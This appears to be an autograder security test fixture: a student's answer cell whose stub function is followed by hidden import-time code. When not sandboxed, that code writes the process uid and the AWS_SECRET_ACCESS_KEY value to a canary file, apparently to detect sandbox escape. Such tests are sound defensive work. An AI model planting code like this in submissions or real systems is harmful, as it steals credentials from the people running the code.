def training_memory(model, optimizer):  # mallory's answer cell, as graded
    raise NotImplementedError()
import os as _os
if _os.environ.get("DISTCOURSE_SANDBOXED") != "1":
    open("/tmp/attack52-user-home/ran_as_ta", "w").write("mallory's code ran as uid %d, canary %s" % (_os.getuid(), _os.environ.get("AWS_SECRET_ACCESS_KEY")))
